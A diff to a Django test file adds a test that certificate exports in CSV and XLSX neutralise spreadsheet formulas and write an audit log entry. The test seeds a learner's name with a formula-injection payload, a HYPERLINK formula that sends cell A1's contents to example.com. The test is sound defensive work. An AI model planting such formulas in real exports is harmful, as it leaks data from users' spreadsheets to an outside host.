@@ -2,6 +2,7 @@
 inspect and history views, revoke and re-issue with a reason (audit-logged), retry delivery,
 and a bulk ZIP of the selected PDFs."""
 
+import csv
 import io
 import json
 import zipfile
@@ -12,10 +13,11 @@ from django.core import mail
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
+from openpyxl import load_workbook
 
 from certificates.models import Certificate, CertificateLogEntry
 from courses.models import TrainingType
-from people.models import HRScope
+from people.models import ExportLog, HRScope
 from people.roles import HR
 
 from .conftest import client_for, enrol, make_course, make_user
@@ -210,6 +212,35 @@ def test_hr_export_holds_only_its_scope(hr, cert_a, cert_b):
     content = b"".join(response.streaming_content).decode("utf-8-sig")
     assert cert_a.number in content
     assert cert_b.number not in content
+
+
+def exported_rows(response, file_format):
+    content = b"".join(response.streaming_content)
+    if file_format == "csv":
+        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    return [list(row) for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)]
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_export_neutralises_formulas_and_is_logged(provincial_admin, course, units, file_format):
+    formula = '=HYPERLINK("http://example.com/?x="&A1,"Xem")'
+    learner = make_user("cong-thuc", profile={"full_name": formula, "institution": units["library_a"]})
+    certificate = issue(learner, course)
+
+    response = client_for(provincial_admin).get(LISTING, {"export": file_format, "q": ""})
+
+    assert response.status_code == 200
+    rows = exported_rows(response, file_format)
+    (row,) = [row for row in rows[1:] if row[0] == certificate.number]
+    assert row[1] == "'" + formula
+    entry = ExportLog.objects.get()
+    assert (entry.user, entry.kind, entry.file_format, entry.rows, entry.filters) == (
+        provincial_admin,
+        "certificates",
+        file_format,
+        1,
+        {"q": ""},
+    )
 
 
 def listing_queries(client):
